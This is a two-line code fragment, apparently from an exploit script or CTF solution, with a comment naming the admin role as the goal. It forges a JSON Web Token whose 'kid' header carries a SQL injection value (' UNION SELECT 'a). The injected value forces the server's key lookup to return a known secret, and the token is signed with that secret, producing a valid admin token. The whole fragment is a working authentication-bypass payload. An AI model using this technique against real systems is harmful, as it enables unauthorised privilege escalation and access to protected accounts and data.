# requirement: the role admin
queried = forge({"alg": "HS256", "kid": "' UNION SELECT 'a"}, claims, secret=b"a")
